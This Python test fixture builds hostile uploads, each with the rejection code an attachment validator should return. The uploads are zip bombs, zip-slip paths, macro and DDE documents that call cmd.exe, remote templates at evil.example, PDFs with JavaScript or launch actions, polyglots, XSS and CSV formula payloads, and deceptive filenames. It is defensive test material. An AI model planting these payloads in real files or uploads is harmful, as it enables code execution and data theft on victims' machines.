"""Hostile files, made in code, each with the answer that it must get: the code of its refusal, or None where it is taken."""

from __future__ import annotations

import io
import os
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from tests.attachments.making import (
    OPEN_XML,
    Part,
    box,
    mp4,
    odf,
    office,
    office_parts,
    packed,
    pdf,
    photograph,
    picture,
    png_of,
    relationship,
    wav,
)

SCRIPT = b"<script>fetch('http://127.0.0.1:9/leak');alert('ran')</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"<img src=x onerror=alert('ran')></body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
MEBIBYTE = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """What it is, the name that it is sent under, its bytes, and the code of the answer; None: taken, and does nothing."""

    what: str
    name: str
    make: Callable[[], bytes]
    answer: str | None

    def __str__(self) -> str:
        return self.what


def _patched(content: bytes, at: int, change: bytes) -> bytes:
    return content[:at] + change + content[at + len(change) :]


def _directory(content: bytes) -> int:
    return content.index(b"PK\x01\x02")


def _bomb() -> bytes:
    return office("docx", ("word/media/a.xml", bytes(64 * MEBIBYTE)))


def _many_small_bombs() -> bytes:
    """Each within the ratio's allowance, a gibibyte together."""
    zeros = bytes(MEBIBYTE)
    return office("xlsx", *[(f"xl/media/{number}.bin", zeros) for number in range(1025)])


def _lying_size() -> bytes:
    """A part that says it is short and inflates to far more."""
    content = office("docx", ("word/media/a.xml", bytes(8 * MEBIBYTE)))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = content.rindex(mark)
        content = _patched(content, at + offset, struct.pack("<L", 100_000))
    return content


def _overlapping() -> bytes:
    """Two names for the same bytes, as the densest bombs have it."""
    content = office("docx", ("word/media/a.xml", b"a" * 2000), ("word/media/b.xml", b"a" * 2000))
    first = content.index(b"word/media/a.xml", _directory(content)) - 46
    second = content.index(b"word/media/b.xml", _directory(content)) - 46
    return _patched(content, second + 42, content[first + 42 : first + 46])


def _many_entries() -> bytes:
    return office("docx", *[(f"word/{number}.xml", b"<a/>") for number in range(10_001)])


def _nested() -> bytes:
    inner = packed([("zeros", bytes(MEBIBYTE))])
    for _ in range(4):
        inner = packed([("inner.zip", inner)])
    return office("docx", ("word/media/inner.bin", inner))


def _link() -> bytes:
    entry = zipfile.ZipInfo("word/media/link.xml")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    entry.create_system = 3
    return office("docx", (entry, b"/etc/passwd"))


def _locked() -> bytes:
    content = office("docx", ("word/secret.xml", b"<a/>"))
    at = content.index(b"word/secret.xml", _directory(content)) - 46
    return _patched(content, at + 8, b"\x01\x00")


def _other_name_inside() -> bytes:
    """The list says one name, the part itself another."""
    content = office("docx", ("word/media/a.xml", b"<a/>"))
    return content.replace(b"word/media/a.xml", b"word/media/b.xml", 1)


def _hidden_part() -> bytes:
    """Bytes between two parts that no list names."""
    content = office("docx")
    entry = content.rindex(b"PK\x03\x04")
    hidden = packed([("hidden.exe", b"MZ" + bytes(500))])
    directory = _directory(content)
    moved = content[:entry] + hidden + content[entry:]
    at = moved.rindex(b"PK\x01\x02")
    moved = _patched(moved, at + 42, struct.pack("<L", entry + len(hidden)))
    return _patched(moved, len(moved) - 6, struct.pack("<L", directory + len(hidden)))


def _damaged() -> bytes:
    content = office("docx", ("word/media/a.bin", os.urandom(5000)))
    at = content.index(b"word/media/a.bin") + 200
    return _patched(content, at, bytes([content[at] ^ 1]))


def _twice() -> bytes:
    return office("docx", ("word/Media/a.xml", b"<a/>"), ("word/media/A.xml", b"<b/>"))


def _named(name: str) -> Callable[[], bytes]:
    return lambda: office("docx", (name, b"<a/>"))


def _part(name: str, content: bytes) -> Callable[[], bytes]:
    part: Part = (name, content)
    return lambda: office("docx", part)


def _rels(kind: str, target: str) -> Callable[[], bytes]:
    return lambda: office("docx", rows=relationship(kind, target, external=True))


def _entities() -> bytes:
    laughs = b"<!DOCTYPE l [<!ENTITY a 'ha'>" + b"".join(
        b"<!ENTITY %c '%s'>" % (98 + number, b"&%c;" % (97 + number) * 10) for number in range(9)
    )
    parts = [(name, content) for name, content in office_parts("docx") if name != "_rels/.rels"]
    return packed([*parts, ("_rels/.rels", laughs + b"]><a>&j;</a>")])


def _behind(workbook: bytes) -> Callable[[], bytes]:
    """A letter with a chart as Word writes it: drawing, chart, and the workbook that the chart came from."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/package"
    target = "../embeddings/Microsoft_Excel_Worksheet.xlsx"
    link = f'<Relationship Id="rId1" Type="{kind}" Target="{target}"/>'
    related = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{link}</Relationships>'
    return lambda: office(
        "docx",
        ("word/charts/chart1.xml", b"<c:chartSpace xmlns:c='urn:c'/>"),
        ("word/charts/_rels/chart1.xml.rels", related.encode()),
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook),
    )


def _stated(types: str) -> Callable[[], bytes]:
    return lambda: office("docx", types=types)


def _moving(frames: int) -> bytes:
    held = io.BytesIO()
    pictures = [Image.new("L", (8, 8), number % 2 * 255) for number in range(frames)]
    pictures[0].save(held, "GIF", save_all=True, append_images=pictures[1:])
    return held.getvalue()


def _compressed_script() -> bytes:
    """The script stands in an object stream, and its name is spelt with numbers."""
    inner = b"10 0 << /S /J#61vaScript /JS (app.alert(1)) >>"
    stream = zlib.compress(inner)
    head = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
    return pdf(b"null", head + stream + b"\nendstream", catalog=b"/OpenAction 10 0 R")


def _oddly_packed() -> bytes:
    stream = zlib.compress(b"10 0 << >>").hex().encode()
    head = b"<< /Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode] /Length %d >>\nstream\n"
    return pdf(head % len(stream) + stream + b"\nendstream")


def _acting(action: bytes) -> Callable[[], bytes]:
    return lambda: pdf(catalog=b"/OpenAction << /Type /Action %s >>" % action)


def _locked_pdf() -> bytes:
    lock = b"/Encrypt << /Filter /Standard /V 1 /R 2 /Length 40 /P -4 /O (%s) /U (%s) >> /ID [(aaaaaaaaaaaaaaaa) (b)]"
    return pdf(trailer=lock % (b"o" * 32, b"u" * 32))


def _jpeg_of(width: int, height: int) -> bytes:
    content = picture("JPEG")
    at = content.index(b"\xff\xc0") + 5
    return _patched(content, at, struct.pack(">HH", height, width))


def _commented() -> bytes:
    return picture("JPEG", comment=HTML)


ZIP = packed([("run.exe", b"MZ" + bytes(500))])
WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
FIELD = (
    b"<w:hdr xmlns:w='urn:w'><w:fldChar w:fldCharType='begin'/><w:instrText> DD</w:instrText>"
    b"<w:instrText>EAUTO c:\\\\windows\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType='end'/></w:hdr>"
)
DDE = b"<x:externalLink xmlns:x='urn:x'><x:ddeLink ddeService='cmd' ddeTopic='/c calc'/></x:externalLink>"

HOSTILE: list[Hostile] = [
    # bombs, and packages that lie
    Hostile("zip bomb of one part", "letter.docx", _bomb, "zip_bomb"),
    Hostile("zip bomb of many parts", "sheet.xlsx", _many_small_bombs, "zip_bomb"),
    Hostile("part that inflates past its size", "letter.docx", _lying_size, "zip_bomb"),
    Hostile("overlapping parts", "letter.docx", _overlapping, "zip_layout"),
    Hostile("ten thousand parts", "letter.docx", _many_entries, "zip_entries"),
    Hostile("zip in a zip in a zip", "letter.docx", _nested, "office_embedded"),
    Hostile("symbolic link", "letter.docx", _link, "zip_link"),
    Hostile("locked part", "letter.docx", _locked, "file_locked"),
    Hostile("another name than listed", "letter.docx", _other_name_inside, "zip_layout"),
    Hostile("part that is not listed", "letter.docx", _hidden_part, "zip_layout"),
    Hostile("damaged part", "letter.docx", _damaged, "file_broken"),
    Hostile("two parts of one name", "letter.docx", _twice, "zip_path"),
    Hostile("zip slip", "letter.docx", _named("word/../../../etc/cron.d/a"), "zip_path"),
    Hostile("absolute path", "letter.docx", _named("/etc/passwd"), "zip_path"),
    Hostile("backslash path", "letter.docx", _named("word\\..\\..\\a.exe"), "zip_path"),
    Hostile("drive path", "letter.docx", _named("C:/Windows/a.dll"), "zip_path"),
    Hostile("a zip before the zip", "letter.docx", lambda: packed([("[Content_Types].xml", HTML)]) + office("docx"), "zip_layout"),
    Hostile("a page before the zip", "letter.docx", lambda: HTML + office("docx"), "file_content"),
    Hostile("something behind the zip", "letter.docx", lambda: office("docx") + HTML, "file_two_kinds"),
    Hostile("zip without its list", "letter.docx", lambda: office("docx")[:-300], "file_two_kinds"),
    # documents
    Hostile("macro project", "letter.docx", _part("word/vbaProject.bin", OLE), "file_content"),
    Hostile("macro project further in", "letter.docx", lambda: office(
        "docx", ("word/media/a.png", os.urandom(9000)), ("word/vbaProject.bin", OLE)), "office_macro"),
    Hostile("macro project by another name", "letter.docx", _stated(
        '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "office_macro"),
    Hostile("macro document under a plain name", "letter.docx", lambda: office("docx", main_type=WORD), "office_macro"),
    Hostile("old macro sheet", "sheet.xlsx", lambda: office("xlsx", ("xl/macrosheets/sheet1.xml", b"<a/>")), "office_macro"),
    Hostile("ActiveX control", "letter.docx", _part("word/activeX/activeX1.xml", b"<a/>"), "office_macro"),
    Hostile("OLE object", "letter.docx", _part("word/embeddings/oleObject1.bin", OLE), "office_embedded"),
    Hostile("program inside", "letter.docx", _part("word/media/image1.png", b"MZ\x90\0" + bytes(900)), "office_embedded"),
    Hostile("workbook behind a chart", "letter.docx", _behind(office("xlsx")), None),
    Hostile("workbook behind a workbook behind a chart", "letter.docx", _behind(
        office("xlsx", ("xl/embeddings/a.xlsx", office("xlsx")))), "office_embedded"),
    Hostile("workbook with macros behind a chart", "letter.docx", _behind(
        office("xlsx", ("xl/media/a.png", os.urandom(9000)), ("xl/vbaProject.bin", OLE))), "office_macro"),
    Hostile("workbook with a DDE link behind a chart", "letter.docx", _behind(
        office("xlsx", ("xl/externalLinks/externalLink1.xml", DDE))), "office_external"),
    Hostile("bomb behind a chart", "letter.docx", _behind(_many_small_bombs()), "zip_bomb"),
    Hostile("program behind a chart", "letter.docx", _behind(b"MZ" + bytes(900)), "file_two_kinds"),
    Hostile("more behind charts than is taken", "letter.docx", _behind(os.urandom(17 * 1024 * 1024)), "office_embedded"),
    Hostile("workbook in another place", "letter.docx", _part("word/media/a.xlsx", office("xlsx")), "office_embedded"),
    Hostile("template from elsewhere", "letter.docx", _rels("attachedTemplate", "http://evil.example/t.dotm"), "office_external"),
    Hostile("OLE object from elsewhere", "letter.docx", _rels("oleObject", "http://evil.example/a.hta"), "office_external"),
    Hostile("picture from elsewhere", "letter.docx", _rels("image", "\\\\evil.example\\a.png"), "office_external"),
    Hostile("frame from elsewhere", "letter.docx", _rels("frame", "http://evil.example/"), "office_external"),
    Hostile("link that is only a link", "letter.docx", _rels("hyperlink", "http://evil.example/"), None),
    Hostile("DDE link", "sheet.xlsx", lambda: office("xlsx", ("xl/externalLinks/externalLink1.xml", DDE)), "office_external"),
    Hostile("DDE field in pieces", "letter.docx", _part("word/header1.xml", FIELD), "office_macro"),
    Hostile("entities that grow", "letter.docx", _entities, "file_broken"),
    Hostile("workbook as a letter", "letter.docx", lambda: packed(
        [part for part in office_parts("xlsx") if not str(part[0]).startswith("xl/")]
        + [("Xl/workbook.xml", b"<a/>")]), "office_kind"),
    Hostile("template as a document", "letter.docx", lambda: office(
        "docx", main_type=f"{OPEN_XML}.wordprocessingml.template.main+xml"), "office_kind"),
    Hostile("two documents in one", "letter.docx", _stated(
        f'<Override PartName="/a/b.xml" ContentType="{OPEN_XML}.spreadsheetml.sheet.main+xml"/>'), "office_kind"),
    Hostile("OpenDocument with Basic", "letter.odt", lambda: odf("odt", ("Basic/Standard/Module1.xml", b"<a/>")), "office_macro"),
    Hostile("OpenDocument with a script", "letter.odt", lambda: odf("odt", ("Scripts/python/a.py", b"import os")), "office_macro"),
    Hostile("OpenDocument that listens", "letter.odt", lambda: odf(
        "odt", content=b"<a xmlns:s='urn:s'><s:event-listener s:href='vnd.sun.star.script:a'/></a>"), "office_macro"),
    Hostile("OpenDocument with a picture from elsewhere", "letter.odt", lambda: odf(
        "odt", content=b"<a xmlns:d='urn:d' xmlns:x='urn:x'><d:image x:href='http://evil.example/a.png'/></a>"), "office_external"),
    Hostile("OpenDocument under a password", "letter.odt", lambda: odf("odt", manifest="<m:encryption-data/>"), "file_locked"),
    # PDF
    Hostile("PDF with a script", "order.pdf", _acting(b"/S /JavaScript /JS (app.alert\\(1\\))"), "pdf_script"),
    Hostile("PDF with a script that hides", "order.pdf", _compressed_script, "pdf_script"),
    Hostile("PDF packed beyond reading", "order.pdf", _oddly_packed, "pdf_unclear"),
    Hostile("PDF that starts a program", "order.pdf", _acting(b"/S /Launch /F (cmd.exe)"), "pdf_launch"),
    Hostile("PDF that sends a form", "order.pdf", _acting(b"/S /SubmitForm /F (http://evil.example/)"), "pdf_launch"),
    Hostile("PDF made by a program", "order.pdf", lambda: pdf(catalog=b"/AcroForm << /Fields [] /XFA (x) >>"), "pdf_form"),
    Hostile("PDF with a file inside", "order.pdf", lambda: pdf(
        b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"), "pdf_embedded"),
    Hostile("PDF under a password", "order.pdf", _locked_pdf, "pdf_locked"),
    Hostile("PDF and zip at once", "order.pdf", lambda: pdf() + ZIP, "file_two_kinds"),
    Hostile("PDF and page at once", "order.pdf", lambda: pdf() + HTML, "file_two_kinds"),
    Hostile("PDF behind a page", "order.pdf", lambda: HTML + pdf(), "file_content"),
    Hostile("HTML as PDF", "order.pdf", lambda: HTML, "file_content"),
    Hostile("PDF of no page", "order.pdf", lambda: pdf(pages=0), "pdf_broken"),
    Hostile("PDF of noise", "order.pdf", lambda: b"%PDF-1.7\n" + os.urandom(4000) + b"\n%%EOF", "pdf_broken"),
    Hostile("PDF with a link to a script", "order.pdf", lambda: pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]"), None),
    # pictures
    Hostile("PNG of four billion points", "plan.png", lambda: png_of(65_000, 65_000, bytes(1000)), "picture_pixels"),
    Hostile("PNG that unpacks to more", "plan.png", lambda: png_of(12_000, 12_000, bytes(50 * MEBIBYTE)), "picture_pixels"),
    Hostile("JPEG of four billion points", "photo.jpg", lambda: _jpeg_of(65_000, 65_000), "picture_pixels"),
    Hostile("GIF of a thousand frames", "plan.gif", lambda: _moving(1000), "picture_frames"),
    Hostile("picture cut short", "photo.jpg", lambda: photograph()[:900], "picture_broken"),
    Hostile("picture with nothing in it", "photo.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(400), "picture_broken"),
    Hostile("GIF that is a script", "plan.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert('ran')//;", "picture_broken"),
    Hostile("picture and zip at once", "photo.jpg", lambda: photograph() + ZIP, "file_two_kinds"),
    Hostile("picture and page at once", "plan.png", lambda: picture() + HTML, "file_two_kinds"),
    Hostile("page in a picture's comment", "photo.jpg", _commented, None),
    Hostile("picture with a place", "photo.jpg", photograph, None),
    Hostile("SVG with script", "drawing.svg", lambda: SVG, "file_type"),
    Hostile("SVG as PNG", "drawing.png", lambda: SVG, "file_content"),
    Hostile("WebP with more behind", "plan.webp", lambda: picture("WEBP") + HTML, "file_two_kinds"),
    # text, sound and video
    Hostile("NUL deep in a text", "notes.txt", lambda: b"words " * 20_000 + b"\0MZ" + b"words " * 500, "text_controls"),
    Hostile("page as a text", "notes.txt", lambda: HTML, "file_content"),
    Hostile("page further down a text", "notes.txt", lambda: b"Minutes.\n" + HTML, None),
    Hostile("formula in a table", "rows.csv", lambda: b"name,count\n=cmd|' /C calc'!A0,1\n", None),
    Hostile("video and zip at once", "door.mp4", lambda: mp4() + ZIP, "file_two_kinds"),
    Hostile("video and page at once", "door.mp4", lambda: mp4() + HTML, "file_broken"),
    Hostile("video without tracks", "door.mp4", lambda: box(b"ftyp", b"isom\0\0\2\0isom") + box(b"mdat", bytes(99)), "file_broken"),
    Hostile("sound that is none", "call.wav", lambda: wav()[:12] + HTML, "file_broken"),
    # names
    Hostile("double extension", "order.pdf.exe", pdf, "file_type"),
    Hostile("page by its extension", "page.html", lambda: HTML, "file_type"),
    Hostile("shortcut", "open me.lnk", lambda: b"L\0\0\0" + bytes(100), "file_type"),
    Hostile("name with traversal", "../../../../etc/order.pdf", pdf, None),
    Hostile("name that turns its direction", "order\u202efdp.exe.pdf", pdf, None),
    Hostile("name with markup", "<img src=x onerror=alert('ran')>.pdf", pdf, None),
    Hostile("name with line ends", "a\u2028Set-Cookie: x=1\u0085.pdf", pdf, None),
    Hostile("name of dots", "...", pdf, "file_name"),
    Hostile("name in capitals", "ORDER.PDF", pdf, None),
    Hostile("Unicode of every kind", "Zażółć 夜 😀 العربية.pdf", pdf, None),
]  # fmt: skip
TAKEN = [one for one in HOSTILE if one.answer is None]
